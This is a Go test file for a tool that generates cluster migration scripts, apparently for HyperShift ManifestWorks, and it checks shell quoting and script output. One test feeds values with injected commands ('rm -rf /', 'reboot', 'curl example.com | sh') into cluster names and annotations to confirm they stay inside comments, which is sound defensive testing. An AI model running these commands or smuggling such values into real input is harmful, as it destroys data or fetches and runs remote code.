@@ -0,0 +1,148 @@
+package cmd
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"sigs.k8s.io/controller-runtime/pkg/client/fake"
+)
+
+// TestShellQuote verifies values are single-quoted with embedded single quotes escaped.
+func TestShellQuote(t *testing.T) {
+	tests := []struct {
+		value    string
+		expected string
+	}{
+		{"", "''"},
+		{"mgmt-cluster", "'mgmt-cluster'"},
+		{`[{"op":"test"}]`, `'[{"op":"test"}]'`},
+		{"it's", `'it'\''s'`},
+	}
+
+	for _, tt := range tests {
+		if got := shellQuote(tt.value); got != tt.expected {
+			t.Errorf("shellQuote(%q) = %s, want %s", tt.value, got, tt.expected)
+		}
+	}
+}
+
+// TestRenderScriptQuotesComments verifies a newline in a cluster name or annotation value stays inside its
+// comment line instead of starting a command.
+func TestRenderScriptQuotesComments(t *testing.T) {
+	m := &migrateOpts{mgmtClusterID: "mc-id", mgmtClusterName: "mgmt\nrm -rf /", serviceClusterID: "svc-123"}
+	changes := []scriptChange{{
+		change: &plannedChange{
+			ClusterID:    "a1",
+			ClusterName:  "cluster-a1\nreboot",
+			Namespace:    "ocm-production-a1",
+			ManifestWork: "mgmt-cluster/a1",
+			Changes: []annotationChangePreview{{
+				Annotation: sizeOverrideAnnotation,
+				Before:     "m5xl\ncurl example.com | sh",
+				Action:     "remove",
+			}},
+		},
+		patch: "[]",
+	}}
+
+	var out bytes.Buffer
+	m.renderScript(&out, changes, time.Now())
+	for _, line := range strings.Split(out.String(), "\n") {
+		for _, injected := range []string{"rm -rf", "reboot", "curl"} {
+			if strings.HasPrefix(line, injected) {
+				t.Errorf("Expected %q to stay on the line of its comment or message, got line %q", injected, line)
+			}
+		}
+	}
+	if !strings.Contains(out.String(), `#   hypershift.openshift.io/cluster-size-override: "m5xl\ncurl example.com | sh" -> <unset> (remove)`) {
+		t.Errorf("Expected the quoted value in the comment, got:\n%s", out.String())
+	}
+}
+
+// TestWriteScript verifies an executable script is written with one commented oc patch command per cluster
+// whose ManifestWork changes, and that nothing is patched.
+func TestWriteScript(t *testing.T) {
+	scheme := testScheme(t)
+	hc := newTestHostedCluster("a1", map[string]string{"hypershift.openshift.io/cluster-size-override": "m5xl"})
+	upToDate := newTestHostedCluster("a2", topologyProfile.Ensure)
+	manifestWork := newTestManifestWork(t, "mgmt-cluster", hc)
+	path := filepath.Join(t.TempDir(), "migrate.sh")
+
+	m := &migrateOpts{
+		mgmtClusterID:    "mc-id",
+		mgmtClusterName:  "mgmt-cluster",
+		serviceClusterID: "svc-123",
+		ticket:           "OHSS-12345",
+		emitScript:       path,
+		serviceClient: fake.NewClientBuilder().WithScheme(scheme).
+			WithObjects(manifestWork, newTestManifestWork(t, "mgmt-cluster", upToDate)).Build(),
+	}
+	candidates := []hostedClusterAuditInfo{
+		{ClusterID: "a1", ClusterName: hc.Name, Namespace: hc.Namespace},
+		{ClusterID: "a2", ClusterName: upToDate.Name, Namespace: upToDate.Namespace},
+		{ClusterID: "a3", ClusterName: "cluster-a3", Namespace: "ocm-production-a3"},
+	}
+
+	var out bytes.Buffer
+	if err := m.writeScript(context.Background(), &out, candidates); err != nil {
+		t.Fatalf("writeScript() error = %v", err)
+	}
+	if !strings.Contains(out.String(), "Script patching 1 ManifestWorks written to") ||
+		!strings.Contains(out.String(), "WARNING: left out of the script: cluster-a3 (a3)") {
+		t.Errorf("Unexpected output:\n%s", out.String())
+	}
+
+	info, err := os.Stat(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if info.Mode().Perm() != 0o755 {
+		t.Errorf("Script mode = %v, want 0755", info.Mode().Perm())
+	}
+
+	change, err := m.plannedChangeFor(manifestWork, candidates[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	patch, err := json.Marshal(change.Patch)
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	script := string(data)
+	for _, expected := range []string{
+		"#!/usr/bin/env bash\n",
+		"#   ocm backplane login svc-123\n",
+		"set -euo pipefail\n",
+		"ELEVATION_REASON='OHSS-12345 - " + defaultElevationReason + "'\n",
+		"# Cluster \"cluster-a1\" (a1), namespace ocm-production-a1\n",
+		"#   hypershift.openshift.io/cluster-size-override: \"m5xl\" -> <unset> (remove)\n",
+		`ocm backplane elevate "${ELEVATION_REASON}" -- patch manifestwork -n 'mgmt-cluster' 'a1' --type json -p '` + string(patch) + "'\n",
+	} {
+		if !strings.Contains(script, expected) {
+			t.Errorf("Expected the script to contain %q, got:\n%s", expected, script)
+		}
+	}
+	if strings.Contains(script, "cluster-a2") {
+		t.Error("Expected the up to date cluster to be left out of the script")
+	}
+
+	if err := os.Remove(path); err != nil {
+		t.Fatal(err)
+	}
+	if err := m.writeScript(context.Background(), &out, candidates[1:2]); ExitCode(err) != exitNothingToDo {
+		t.Errorf("writeScript() without changes error = %v, want exit code %d", err, exitNothingToDo)
+	}
+	if _, err := os.Stat(path); !os.IsNotExist(err) {
+		t.Error("Expected no script to be written without changes")
+	}
+}